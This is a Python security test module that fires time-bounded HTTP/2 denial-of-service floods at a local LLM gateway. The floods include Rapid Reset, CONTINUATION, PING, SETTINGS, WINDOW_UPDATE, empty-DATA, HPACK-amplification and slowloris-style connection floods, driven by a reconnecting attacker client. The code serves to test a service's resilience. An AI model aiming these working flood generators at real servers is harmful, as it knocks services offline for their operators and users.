"""`python -m tests.security.floods NAME PORT SECONDS`: one flood of HTTP/2 frames (RFC 9113) at 127.0.0.1, in a process of its own, so that who measures
the others is not slowed by it. Each is bounded in time, and in connections."""

from __future__ import annotations

import selectors
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from itertools import chain

from tests.support import http2
from tests.support.http2 import CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE

SEND = "/llmgateway.v1.LLMGateway/Send"
CHECK, LIST, WATCH = (f"/grpc.health.v1.Health/{name}" for name in ("Check", "List", "Watch"))
AUTHORITY = "127.0.0.1"
CANCEL = struct.pack(">I", 8)
MOST_STREAMS = 1 << 20
EMPTY = b"\0\0\0\0\0"
"""A message without a field."""


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return http2.encoded(kind, payload, flags=flags, stream=stream)


def call(path: str, stream: int, message: bytes = b"") -> bytes:
    head = frame(HEADERS, http2.headers(path, AUTHORITY), flags=END_HEADERS, stream=stream)
    return head + (frame(DATA, message, flags=http2.END_STREAM, stream=stream) if message else b"")


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: calls that are opened and reset."""
    for first in range(1, MOST_STREAMS, 200):
        yield b"".join(
            call(SEND, stream) + frame(RST_STREAM, CANCEL, stream=stream) for stream in range(first, first + 200, 2)
        )


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, b"12345678") * 500


def settings() -> Iterator[bytes]:
    while True:
        yield b"".join(frame(SETTINGS, struct.pack(">HI", 4, 65_535 + size)) for size in range(500))


def continuation() -> Iterator[bytes]:
    """A head that has no end: small fields, then none."""
    yield frame(HEADERS, http2.headers(SEND, AUTHORITY), stream=1)
    while True:
        yield frame(CONTINUATION, http2.literal(b"x-more", b"y" * 100), stream=1) * 100
        yield frame(CONTINUATION, stream=1) * 500


def window_updates() -> Iterator[bytes]:
    yield call(WATCH, 1, EMPTY)
    while True:
        yield (frame(WINDOW_UPDATE, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, struct.pack(">I", 1), stream=1)) * 250


def empty_data() -> Iterator[bytes]:
    """CVE-2019-9518: a request that never comes, in any number of frames."""
    yield call(CHECK, 1)
    while True:
        yield frame(DATA, stream=1) * 500


def one_byte_windows() -> Iterator[bytes]:
    """CVE-2019-9511: answers that are read byte by byte."""
    yield frame(SETTINGS, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 1))
    for first in range(1, MOST_STREAMS, 100):
        streams = range(first, first + 100, 2)
        yield b"".join(call(LIST, stream, EMPTY) for stream in streams)
        yield b"".join(frame(WINDOW_UPDATE, struct.pack(">I", 1), stream=stream) for stream in streams) * 20


def half_open() -> Iterator[bytes]:
    """As many calls as a connection may carry, whose messages never come."""
    for first in range(1, 2000, 200):
        yield b"".join(call(CHECK if stream % 4 == 1 else WATCH, stream) for stream in range(first, first + 200, 2))


def hpack_references() -> Iterator[bytes]:
    """One field of 4 kB in the table, named 8,000 times in each head: a byte each time (RFC 7541 section 6.1)."""
    field = b"\x40\x06x-more\x7f" + _integer(4000 - 127) + b"y" * 4000
    yield frame(HEADERS, http2.headers(SEND, AUTHORITY) + field, flags=END_HEADERS, stream=1)
    for stream in range(3, 2003, 2):
        yield frame(HEADERS, http2.headers(SEND, AUTHORITY) + b"\xbe" * 8000, flags=END_HEADERS, stream=stream)


def hpack_continuations() -> Iterator[bytes]:
    """The same in one head without an end."""
    field = b"\x40\x06x-more\x7f" + _integer(4000 - 127) + b"y" * 4000
    yield frame(HEADERS, http2.headers(SEND, AUTHORITY) + field, stream=1)
    for _ in range(500):
        yield frame(CONTINUATION, b"\xbe" * 16_000, stream=1)


def _integer(rest: int) -> bytes:
    """What of a number did not fit into its prefix (RFC 7541 section 5.1)."""
    digits = bytearray()
    while rest >= 128:
        digits.append(rest % 128 + 128)
        rest //= 128
    return bytes(digits) + bytes((rest,))


def slow_headers() -> Iterator[bytes]:
    """A byte now and then."""
    for byte in frame(HEADERS, http2.headers(SEND, AUTHORITY), stream=1):
        yield bytes((byte,))
        for _ in range(10):
            yield b""


def idle() -> Iterator[bytes]:
    yield from ()


@dataclass(frozen=True, slots=True, kw_only=True)
class Flood:
    """make: what one connection sends. acks: whether it acknowledges the server's SETTINGS, whose limits bind from then on (RFC 9113 section 6.5.3)."""

    make: Callable[[], Iterator[bytes]]
    connections: int = 2
    acks: bool = True
    seconds: float = 4.0


FLOODS = {
    "rapid reset": Flood(make=rapid_reset),
    "rapid reset, nothing acknowledged": Flood(make=rapid_reset, acks=False),
    "PING": Flood(make=pings),
    "SETTINGS": Flood(make=settings),
    "CONTINUATION": Flood(make=continuation),
    "WINDOW_UPDATE": Flood(make=window_updates, seconds=10.0),  # heaps are torn bit by bit
    "empty DATA": Flood(make=empty_data),
    "1-byte windows": Flood(make=one_byte_windows),
    "calls without a message": Flood(make=half_open, connections=5),
    "slow headers": Flood(make=slow_headers, connections=500),
    "idle connections": Flood(make=idle, connections=5000),
    "HPACK references": Flood(make=hpack_references, connections=1),
    "HPACK references, nothing acknowledged": Flood(make=hpack_references, connections=1, acks=False),
    "HPACK references in one head": Flood(make=hpack_continuations, connections=1),
    "HPACK references in one head, nothing acknowledged": Flood(make=hpack_continuations, connections=1, acks=False),
}
BEHIND_ENVOY_ONLY = (
    "HPACK references, nothing acknowledged",
    "HPACK references in one head, nothing acknowledged",
)
"""What the gateway alone does not withstand: see docs/security.md."""


class Attacker:
    """One connection: what it sends, as fast as it is taken; a connection that the gateway ends is made anew."""

    def __init__(self, port: int, flood: Flood) -> None:
        self._port = port
        self._flood = flood
        self.sent = self.times = 0
        self._connect()

    def _connect(self) -> None:
        self.times += 1
        self._frames: Iterator[bytes] = iter(()) if self._flood.acks else self._flood.make()
        self._greeted = False
        self._left = http2.PREFACE + frame(SETTINGS)
        self.socket = socket.create_connection(("127.0.0.1", self._port), 2)
        self.socket.setblocking(False)

    def again(self) -> None:
        self.socket.close()
        self._connect()

    def read(self) -> bool:
        """Throw away what is said. False: the gateway has closed the connection."""
        try:
            said = self.socket.recv(1 << 16)
            if said and self._flood.acks and not self._greeted:  # these are the server's SETTINGS
                self._frames = chain((frame(SETTINGS, flags=http2.ACK),), self._flood.make())
            self._greeted = True
            return bool(said)
        except BlockingIOError:
            return True
        except OSError:
            return False

    def write(self) -> bool:
        """False: there is nothing to send for now."""
        try:
            self._left = self._left or next(self._frames, b"")
            done = self.socket.send(self._left) if self._left else 0
        except BlockingIOError:
            return False
        except OSError:
            return False
        self._left = self._left[done:]
        self.sent += done
        return done > 0


def flood(name: str, port: int, seconds: float) -> None:
    one_of = FLOODS[name]
    end = time.monotonic() + seconds
    attackers = [Attacker(port, one_of) for _ in range(one_of.connections)]
    with selectors.DefaultSelector() as selector:
        for one in attackers:
            selector.register(one.socket, selectors.EVENT_READ, one)
        while time.monotonic() < end:
            for key, _ in selector.select(0):
                one = key.data
                if not one.read():
                    selector.unregister(one.socket)
                    with suppress(OSError):
                        one.again()
                        selector.register(one.socket, selectors.EVENT_READ, one)
            if not sum(one.write() for one in attackers):
                time.sleep(0.01)
    print(sum(one.sent for one in attackers), sum(one.times for one in attackers))


if __name__ == "__main__":
    flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
